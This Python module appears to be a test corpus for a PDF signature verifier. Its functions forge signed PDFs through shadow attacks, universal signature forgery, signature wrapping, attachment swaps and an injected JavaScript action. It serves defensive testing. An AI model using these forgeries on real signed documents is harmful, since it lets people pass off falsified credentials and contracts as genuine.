"""What has been tried against signed PDFs, each from one genuine certificate.

Shadow attacks, universal signature forgery, wrapping: https://www.pdf-insecurity.org. An attack is
a function from the genuine file and another genuine one, of somebody else, to a false one.
"""

import io
import re
from collections.abc import Callable, Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

ATTACHMENT = "credential.json"
_FALSE = b"BT /F1 40 Tf 100 300 Td (Mallory Nkosi) Tj ET"
_RANGE = re.compile(rb"/ByteRange\[[^\]]*\] *")


def rewritten(pdf: bytes, change: Callable[[Pdf], None], **options: object) -> bytes:
    """By a program that writes the whole file anew."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        change(document)
        document.save(out, **options)
    return out.getvalue()


def revised(pdf: bytes, change: Callable[[Pdf], Mapping[int, bytes]]) -> bytes:
    """As an incremental update: the signed bytes stay, objects are replaced behind them."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        objects = change(document)
        root = document.Root.objgen[0]
        size = max(int(document.trailer["/Size"]), *(number + 1 for number in objects))
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    return _with_revision(pdf, objects, b"/Size %d/Root %d 0 R/Prev %d" % (size, root, previous))


def _with_revision(pdf: bytes, objects: Mapping[int, bytes], trailer: bytes) -> bytes:
    body, table = pdf + b"\n", b""
    for number, text in sorted(objects.items()):
        table += b"%d 1\n%010d 00000 n\r\n" % (number, len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, text)
    return body + b"xref\n%btrailer\n<<%b>>\nstartxref\n%d\n%%%%EOF\n" % (table, trailer, len(body))


def _stream(content: bytes) -> bytes:
    return b"<</Length %d>>\nstream\n%b\nendstream" % (len(content), content)


def _page(document: Pdf) -> pikepdf.Object:
    return document.pages[0].obj


def _with(dictionary: pikepdf.Object, name: str, value: bytes | None) -> bytes:
    others = {key: each for key, each in dictionary.items() if key != name}
    text = Dictionary(others).unparse()[:-2]
    return text + (name.encode() + b" " + value if value is not None else b"") + b">>"


def shadow_replace(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> dict[int, bytes]:
        page, new = _page(document), int(document.trailer["/Size"])
        return {new: _stream(_FALSE), page.objgen[0]: _with(page, "/Contents", b"%d 0 R" % new)}

    return revised(pdf, change)


def shadow_hide(pdf: bytes, _: bytes) -> bytes:
    return revised(
        pdf,
        lambda document: {_page(document).objgen[0]: _with(_page(document), "/Annots", None)},
    )


def shadow_hide_and_replace(pdf: bytes, _: bytes) -> bytes:
    """A second page tree comes into force."""

    def change(document: Pdf) -> dict[int, bytes]:
        new = int(document.trailer["/Size"])
        page = _with(_page(document), "/Contents", b"%d 0 R" % new)
        tree = b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (new + 1)
        root = _with(document.Root, "/Pages", b"%d 0 R" % (new + 2))
        number = document.Root.objgen[0]
        return {new: _stream(_FALSE), new + 1: page, new + 2: tree, number: root}

    return revised(pdf, change)


def replaced_catalog(pdf: bytes, _: bytes) -> bytes:
    """Another catalog under another number."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        new = int(document.trailer["/Size"])
        root = _with(document.Root, "/AcroForm", None)
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = b"/Size %d/Root %d 0 R/Prev %d" % (new + 1, new, previous)
    return _with_revision(pdf, {new: root}, trailer)


def second_table(pdf: bytes, _: bytes) -> bytes:
    """A table of objects that says nothing new, and a second end."""
    return revised(
        pdf,
        lambda document: {_page(document).objgen[0]: _with(_page(document), "/Nothing", None)},
    )


def _in_range(pdf: bytes, text: bytes) -> bytes:
    """The signature's own words about what it covers, in as many bytes."""
    found = _RANGE.search(pdf)
    assert found
    return pdf[: found.start()] + text.ljust(len(found[0])) + pdf[found.end() :]


def usf_range_missing(pdf: bytes, _: bytes) -> bytes:
    return _in_range(pdf, b"")


def usf_range_null(pdf: bytes, _: bytes) -> bytes:
    return _in_range(pdf, b"/ByteRange null ")


def usf_range_of_nothing(pdf: bytes, _: bytes) -> bytes:
    return _in_range(pdf, b"/ByteRange[0 0 0 0] ")


def usf_contents_null(pdf: bytes, _: bytes) -> bytes:
    start = pdf.rindex(b"/Contents<")
    end = pdf.index(b">", start) + 1
    return pdf[:start] + b"/Contents null".ljust(end - start) + pdf[end:]


def usf_contents_missing(pdf: bytes, _: bytes) -> bytes:
    start = pdf.rindex(b"/Contents<")
    end = pdf.index(b">", start) + 1
    return pdf[:start] + b" " * (end - start) + pdf[end:]


def wrapped_signature(pdf: bytes, _: bytes) -> bytes:
    """What is signed moves to the end, and something else stands where it was (SWA)."""
    start = pdf.rindex(b"/Contents<")
    end = pdf.index(b">", start) + 1
    tail, false = pdf[end:], b"\n99 0 obj\n%b\nendobj\n" % _stream(_FALSE)
    moved = end + len(false)
    before = _in_range(pdf[:end], b"/ByteRange[0 %d %d %d]" % (start, moved, len(tail)))
    return before + false + tail


def _annotated(kind: bytes) -> Callable[[bytes, bytes], bytes]:
    def attack(pdf: bytes, _: bytes) -> bytes:
        def change(document: Pdf) -> dict[int, bytes]:
            page, new = _page(document), int(document.trailer["/Size"])
            others = page["/Annots"].unparse()[:-1]
            note = b"<</Type/Annot/Subtype%b/Rect[90 280 700 340]/Contents(Mallory)/F 4>>" % kind
            listed = others + b" %d 0 R]" % new
            return {new: note, page.objgen[0]: _with(page, "/Annots", listed)}

        return revised(pdf, change)

    return attack


def form_overlay(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        field = document.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T="name",
                V="Mallory Nkosi",
                Rect=[90, 280, 700, 340],
            )
        )
        document.Root.AcroForm.Fields.append(field)
        document.pages[0].Annots.append(field)

    return rewritten(pdf, change)


def changed_page(pdf: bytes, _: bytes) -> bytes:
    """The attachment stays as it was."""
    return rewritten(pdf, lambda document: document.pages[0].contents_add(_FALSE))


def page_of_another(pdf: bytes, other: bytes) -> bytes:
    def change(document: Pdf) -> None:
        with pikepdf.open(io.BytesIO(other)) as theirs:
            document.pages[0] = theirs.pages[0]

    return rewritten(pdf, change)


def turned_page(pdf: bytes, _: bytes) -> bytes:
    return rewritten(pdf, lambda document: document.pages[0].rotate(180, relative=True))


def cropped_page(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        document.pages[0].cropbox = Array([0, 0, 300, 300])

    return rewritten(pdf, change)


def appended_page(pdf: bytes, _: bytes) -> bytes:
    return rewritten(pdf, lambda document: document.add_blank_page() and None)


def prepended_page(pdf: bytes, other: bytes) -> bytes:
    def change(document: Pdf) -> None:
        with pikepdf.open(io.BytesIO(other)) as theirs:
            document.pages.insert(0, theirs.pages[0])

    return rewritten(pdf, change)


def _attached(document: Pdf) -> pikepdf.Object:
    return document.attachments[ATTACHMENT].get_file().obj


def changed_attachment(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        stream = _attached(document)
        stream.write(stream.read_bytes().replace(b"Ada Nkosi", b"Mallory Nkosi"))

    return rewritten(pdf, change)


def attachment_of_another(pdf: bytes, other: bytes) -> bytes:
    """A page of one, the genuine credential of another."""

    def change(document: Pdf) -> None:
        with pikepdf.open(io.BytesIO(other)) as theirs:
            _attached(document).write(theirs.attachments[ATTACHMENT].get_file().read_bytes())

    return rewritten(pdf, change)


def no_attachment(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        del document.attachments[ATTACHMENT]

    return rewritten(pdf, change)


def second_attachment(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        document.attachments["credential-2.json"] = b"{}"

    return rewritten(pdf, change)


def swapped_names(pdf: bytes, other: bytes) -> bytes:
    """The tree of names leads to the attachment of somebody else."""

    def change(document: Pdf) -> None:
        with pikepdf.open(io.BytesIO(other)) as theirs:
            names = theirs.make_indirect(theirs.Root.Names)
            document.Root.Names = document.copy_foreign(names)

    return rewritten(pdf, change)


def hidden_layer(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        layer = document.make_indirect(Dictionary(Type=Name.OCG, Name="Layer"))
        document.Root.OCProperties = Dictionary(OCGs=[layer], D=Dictionary(OFF=[layer]))

    return rewritten(pdf, change)


def script(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")

    return rewritten(pdf, change)


def script_of_a_page(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))

    return rewritten(pdf, change)


def metadata(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        document.Root.Metadata.write(document.Root.Metadata.read_bytes().replace(b"Ada", b"Eve"))

    return rewritten(pdf, change)


def no_signature(pdf: bytes, _: bytes) -> bytes:
    def change(document: Pdf) -> None:
        del document.Root.AcroForm
        del document.Root.Perms

    return rewritten(pdf, change)


def before_signing(pdf: bytes, _: bytes) -> bytes:
    """The revision that was signed, without its signature."""
    return pdf[: pdf.index(b"%%EOF") + 6]


def rewritten_as_it_is(pdf: bytes, _: bytes) -> bytes:
    return rewritten(pdf, lambda _: None)


def linearized(pdf: bytes, _: bytes) -> bytes:
    return rewritten(pdf, lambda _: None, linearize=True)


def object_streams(pdf: bytes, _: bytes) -> bytes:
    return rewritten(pdf, lambda _: None, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def uncompressed(pdf: bytes, _: bytes) -> bytes:
    return rewritten(
        pdf,
        lambda _: None,
        compress_streams=False,
        stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
    )


def encrypted(pdf: bytes, _: bytes) -> bytes:
    """Anybody may open it, and not everybody print."""
    return rewritten(pdf, lambda _: None, encryption=pikepdf.Encryption(owner="o", user=""))


def appended_bytes(pdf: bytes, _: bytes) -> bytes:
    return pdf + b"\n"


def prepended_bytes(pdf: bytes, _: bytes) -> bytes:
    return b"MZ\n" + pdf


def changed_case_of_a_digit(pdf: bytes, _: bytes) -> bytes:
    """The signature is the same number, written in other letters."""
    start = pdf.rindex(b"/Contents<") + len(b"/Contents<")
    return pdf[:start] + pdf[start : start + 200].upper() + pdf[start + 200 :]


ATTACKS: dict[str, Callable[[bytes, bytes], bytes]] = {
    each.__name__.replace("_", " "): each
    for each in (
        shadow_replace,
        shadow_hide,
        shadow_hide_and_replace,
        replaced_catalog,
        second_table,
        usf_range_missing,
        usf_range_null,
        usf_range_of_nothing,
        usf_contents_null,
        usf_contents_missing,
        wrapped_signature,
        form_overlay,
        changed_page,
        page_of_another,
        turned_page,
        cropped_page,
        appended_page,
        prepended_page,
        changed_attachment,
        attachment_of_another,
        no_attachment,
        second_attachment,
        swapped_names,
        hidden_layer,
        script,
        script_of_a_page,
        metadata,
        no_signature,
        before_signing,
        rewritten_as_it_is,
        linearized,
        object_streams,
        uncompressed,
        encrypted,
        appended_bytes,
        prepended_bytes,
        changed_case_of_a_digit,
    )
} | {
    "free text": _annotated(b"/FreeText"),
    "stamp": _annotated(b"/Stamp"),
    "redaction": _annotated(b"/Redact"),
}
